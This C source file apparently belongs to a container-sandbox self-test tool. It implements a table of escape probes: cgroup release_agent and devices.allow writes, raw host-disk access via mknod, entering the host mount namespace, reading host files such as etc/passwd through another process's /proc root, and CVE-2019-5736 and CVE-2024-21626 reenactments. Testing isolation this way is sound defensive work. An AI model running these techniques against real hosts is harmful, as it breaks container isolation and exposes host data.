// SPDX-License-Identifier: Apache-2.0
/* Ways out of a container. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

#define MOUNT_POINT "/tmp/pratique-mount"

/* Reads a setting and writes back what it says. */
static int rewrite(int argc, char **argv)
{
	char value[4096];
	ssize_t length;
	int fd, failed;

	if (argc != 1)
		return misused("rewrite PATH");
	fd = open(argv[0], O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return errno == ENOENT ? impossible("no such file") : refused("open");
	length = read(fd, value, sizeof(value));
	close(fd);
	if (length < 0)
		return refused("read");
	fd = open(argv[0], O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return refused("open for writing");
	failed = write(fd, value, (size_t)length) != length;
	if (failed)
		refused("write");
	close(fd);
	return failed ? REFUSED : took_effect();
}

/* rewrite-by-descriptor PATH: the name that is opened for writing is that of a descriptor. */
static int rewrite_by_descriptor(int argc, char **argv)
{
	char by_descriptor[64];
	char *words[] = { by_descriptor };
	int fd;

	if (argc != 1)
		return misused("rewrite-by-descriptor PATH");
	fd = open(argv[0], O_PATH | O_CLOEXEC);
	if (fd < 0)
		return refused("open");
	snprintf(by_descriptor, sizeof(by_descriptor), "/proc/self/fd/%d", fd);
	return rewrite(1, words);
}

/* A hierarchy of its own, without a controller: nothing on the host is in it. */
static int write_release_agent(int argc, char **argv)
{
	int outcome, fd;

	(void)argc;
	(void)argv;
	mkdir(MOUNT_POINT, 0700);
	if (mount("cgroup", MOUNT_POINT, "cgroup", 0, "none,name=pratique-selftest") < 0)
		return errno == ENODEV || errno == EINVAL ? impossible("no cgroups of version 1") : refused("mount");
	fd = open(MOUNT_POINT "/release_agent", O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		outcome = errno == ENOENT ? impossible("no release_agent") : refused("open");
	else
		outcome = write_all(fd, "/bin/true\n", 10) < 0 ? refused("write") : took_effect();
	if (fd >= 0) {
		write_all(fd, "\n", 1);
		close(fd);
	}
	umount2(MOUNT_POINT, MNT_DETACH);
	rmdir(MOUNT_POINT);
	return outcome;
}

/* What it allows is allowed already. */
static int write_devices_allow(int argc, char **argv)
{
	static const char devices[] = MOUNT_POINT "/devices.allow";
	int outcome, fd;

	(void)argc;
	(void)argv;
	mkdir(MOUNT_POINT, 0700);
	/* In a namespace of cgroups of its own the mount shows this container alone. */
	if (syscall(SYS_unshare, CLONE_NEWCGROUP) < 0)
		return refused("unshare");
	if (mount("cgroup", MOUNT_POINT, "cgroup", 0, "devices") < 0)
		return errno == ENODEV || errno == EINVAL || errno == EBUSY ? impossible("no devices cgroup of version 1") :
									      refused("mount");
	fd = open(devices, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		outcome = refused("open");
	else
		outcome = write_all(fd, "c 1:3 rwm", 9) < 0 ? refused("write") : took_effect();
	umount2(MOUNT_POINT, MNT_DETACH);
	rmdir(MOUNT_POINT);
	return outcome;
}

static int first_disk(unsigned int *major_number, unsigned int *minor_number, char *name, size_t size)
{
	char line[256];
	FILE *partitions = fopen("/proc/partitions", "re");
	int found = 0;

	if (!partitions)
		return 0;
	while (!found && fgets(line, sizeof(line), partitions)) {
		char disk[64];

		if (sscanf(line, "%u %u %*u %63s", major_number, minor_number, disk) != 3)
			continue;
		/* Disks of memory and of files are nobody's root. */
		found = strncmp(disk, "loop", 4) != 0 && strncmp(disk, "ram", 3) != 0 && strncmp(disk, "zram", 4) != 0;
		if (found)
			snprintf(name, size, "%s", disk);
	}
	fclose(partitions);
	return found;
}

/* read-disk [PATH]: by a node of its own at PATH, or where the container has none. */
static int read_disk(int argc, char **argv)
{
	unsigned int major_number, minor_number;
	char name[64], path[128];
	struct stat status;
	int fd, made, outcome;

	if (!first_disk(&major_number, &minor_number, name, sizeof(name)))
		return impossible("no disk");
	if (argc > 0)
		snprintf(path, sizeof(path), "%s", argv[0]);
	else
		snprintf(path, sizeof(path), "/dev/%s", name);
	made = stat(path, &status) < 0;
	if (made && mknod(path, S_IFBLK | 0600, makedev(major_number, minor_number)) < 0)
		return refused("mknod");
	fd = open(path, O_RDONLY | O_CLOEXEC);
	outcome = fd < 0 ? refused("open") : read_some(fd);
	if (made)
		unlink(path);
	return outcome;
}

/* The node, and no look at what it leads to. */
static int make_disk_node(int argc, char **argv)
{
	static const char path[] = "/tmp/pratique-disk";
	unsigned int major_number, minor_number;
	char name[64];

	(void)argc;
	(void)argv;
	if (!first_disk(&major_number, &minor_number, name, sizeof(name)))
		return impossible("no disk");
	if (mknod(path, S_IFBLK | 0600, makedev(major_number, minor_number)) < 0)
		return refused("mknod");
	unlink(path);
	return took_effect();
}

/*
 * To the kernel the disk is only the name of a file system in memory, so that none is mounted a second time; to
 * whoever watches it is what a mount of the disk looks like.
 */
static int mount_disk(int argc, char **argv)
{
	unsigned int major_number, minor_number;
	char name[64], path[128];

	(void)argc;
	(void)argv;
	if (!first_disk(&major_number, &minor_number, name, sizeof(name)))
		return impossible("no disk");
	snprintf(path, sizeof(path), "/dev/%s", name);
	mkdir(MOUNT_POINT, 0700);
	if (mount(path, MOUNT_POINT, "tmpfs", MS_RDONLY, NULL) < 0)
		return refused("mount");
	umount2(MOUNT_POINT, MNT_DETACH);
	rmdir(MOUNT_POINT);
	return took_effect();
}

/* Begins to mount a disk by the calls that came after mount(2), and goes no further. */
static int mount_disk_by_descriptor(int argc, char **argv)
{
	int context = (int)syscall(SYS_fsopen, "ext4", 0);

	(void)argc;
	(void)argv;
	if (context < 0)
		return errno == ENODEV ? impossible("a kernel without ext4") : refused("fsopen");
	close(context);
	return took_effect();
}

/* The calls that came after mount(2). */
static int mount_by_descriptor(int argc, char **argv)
{
	int context, mounted, outcome;

	(void)argc;
	(void)argv;
	context = (int)syscall(SYS_fsopen, "proc", 0);
	if (context < 0)
		return refused("fsopen");
	if (syscall(SYS_fsconfig, context, FSCONFIG_CMD_CREATE, NULL, NULL, 0) < 0)
		return refused("fsconfig");
	mounted = (int)syscall(SYS_fsmount, context, 0, 0);
	if (mounted < 0)
		return refused("fsmount");
	mkdir(MOUNT_POINT, 0700);
	if (syscall(SYS_move_mount, mounted, "", AT_FDCWD, MOUNT_POINT, MOVE_MOUNT_F_EMPTY_PATH) < 0)
		outcome = refused("move_mount");
	else
		outcome = took_effect();
	umount2(MOUNT_POINT, MNT_DETACH);
	rmdir(MOUNT_POINT);
	return outcome;
}

/* A process outside of this container; the host's first may have rights that nobody else can reach past. */
static int open_outside(const char *below_process, int flags)
{
	DIR *processes = opendir("/proc");
	struct stat own, other;
	struct dirent *entry;
	int fd = -1;

	if (!processes || stat("/proc/self/ns/mnt", &own) < 0)
		return -1;
	while (fd < 0 && (entry = readdir(processes))) {
		char path[512];

		if (entry->d_name[0] < '1' || entry->d_name[0] > '9')
			continue;
		snprintf(path, sizeof(path), "/proc/%.20s/ns/mnt", entry->d_name);
		if (stat(path, &other) < 0 || other.st_ino == own.st_ino)
			continue;
		snprintf(path, sizeof(path), "/proc/%.20s/%.128s", entry->d_name, below_process);
		fd = open(path, flags | O_CLOEXEC);
	}
	closedir(processes);
	return fd;
}

/* The next call would run where the mounts of the host are. */
static int enter_host_namespace(int argc, char **argv)
{
	int fd = open_outside("ns/mnt", O_RDONLY);

	(void)argc;
	(void)argv;
	if (fd < 0)
		return refused("open");
	return setns(fd, CLONE_NEWNS) < 0 ? refused("setns") : took_effect();
}

static int read_host_root(int argc, char **argv)
{
	int fd;

	if (argc != 1)
		return misused("read-host-root PATH");
	fd = open_outside(argv[0], O_RDONLY);
	return fd < 0 ? refused("open") : read_some(fd);
}

/* From where it then is, each name is one of the host, and says nothing of the way there. */
static int enter_host_root(int argc, char **argv)
{
	int fd = open_outside("root", O_PATH | O_DIRECTORY);

	(void)argc;
	(void)argv;
	if (fd < 0)
		return refused("open");
	fd = openat(fd, "etc/passwd", O_RDONLY | O_CLOEXEC);
	return fd < 0 ? refused("openat") : read_some(fd);
}

static int new_user_namespace(int argc, char **argv)
{
	int flags = CLONE_NEWUSER | (argc > 0 && strcmp(argv[0], "cgroup") == 0 ? CLONE_NEWCGROUP : 0);

	return unshare(flags) < 0 ? refused("unshare") : took_effect();
}

static int clone_user_namespace(int argc, char **argv)
{
	long child = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);

	(void)argc;
	(void)argv;
	if (child == 0)
		_exit(took_effect());
	return child < 0 ? refused("clone") : exit_outcome((pid_t)child, "child");
}

/* A file by its number, past every path. */
static int open_by_handle(int argc, char **argv)
{
	static const char path[] = "/dev/pratique-handle";
	char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	struct file_handle *handle = (struct file_handle *)space;
	int mount_id, directory, fd, outcome;

	(void)argc;
	(void)argv;
	fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
	if (fd < 0)
		return refused("create");
	close(fd);
	handle->handle_bytes = MAX_HANDLE_SZ;
	directory = open("/dev", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (name_to_handle_at(AT_FDCWD, path, handle, &mount_id, 0) < 0 || directory < 0) {
		outcome = refused("name_to_handle_at");
	} else {
		fd = open_by_handle_at(directory, handle, O_RDONLY | O_CLOEXEC);
		outcome = fd < 0 ? refused("open_by_handle_at") : took_effect();
	}
	unlink(path);
	return outcome;
}

/* As CVE-2019-5736 overwrote runc: by a descriptor that was taken while it ran. Here it is a copy of ourselves. */
static int overwrite_running(int argc, char **argv)
{
	static const char copy[] = "/tmp/pratique-runtime";
	char running[64], by_descriptor[64];
	char *words[] = { "pause", "pause", NULL };
	int reading, writing, outcome;
	pid_t child;

	(void)argc;
	(void)argv;
	if (copy_self(copy) < 0)
		return refused("copy");
	child = vfork();
	if (child == 0) {
		execve(copy, words, (char *[]){ NULL });
		_exit(REFUSED);
	}
	if (child < 0)
		return refused("fork");
	snprintf(running, sizeof(running), "/proc/%d/exe", child);
	reading = open(running, O_PATH | O_CLOEXEC);
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	if (reading < 0) {
		outcome = refused("open of the running program");
	} else {
		snprintf(by_descriptor, sizeof(by_descriptor), "/proc/self/fd/%d", reading);
		writing = open(by_descriptor, O_WRONLY | O_CLOEXEC);
		outcome = writing < 0 ? refused("open for writing") : took_effect();
	}
	unlink(copy);
	return outcome;
}

/* As CVE-2024-21626: a process starts in a directory that only a descriptor leads to. */
static int change_to_descriptor(int argc, char **argv)
{
	char path[64];
	char *words[] = { "chdir", NULL };
	int fd = open("/", O_PATH | O_DIRECTORY);

	(void)argc;
	(void)argv;
	if (fd < 0)
		return refused("open");
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	if (chdir(path) < 0)
		return refused("chdir");
	return run_chain(1, words);
}

const struct attack escape_attacks[] = {
	{ "rewrite", rewrite },
	{ "rewrite-by-descriptor", rewrite_by_descriptor },
	{ "write-release-agent", write_release_agent },
	{ "write-devices-allow", write_devices_allow },
	{ "read-disk", read_disk },
	{ "make-disk-node", make_disk_node },
	{ "mount-disk", mount_disk },
	{ "mount-disk-by-descriptor", mount_disk_by_descriptor },
	{ "mount-by-descriptor", mount_by_descriptor },
	{ "enter-host-namespace", enter_host_namespace },
	{ "read-host-root", read_host_root },
	{ "enter-host-root", enter_host_root },
	{ "new-user-namespace", new_user_namespace },
	{ "clone-user-namespace", clone_user_namespace },
	{ "open-by-handle", open_by_handle },
	{ "overwrite-running", overwrite_running },
	{ "change-to-descriptor", change_to_descriptor },
	{ NULL, NULL },
};
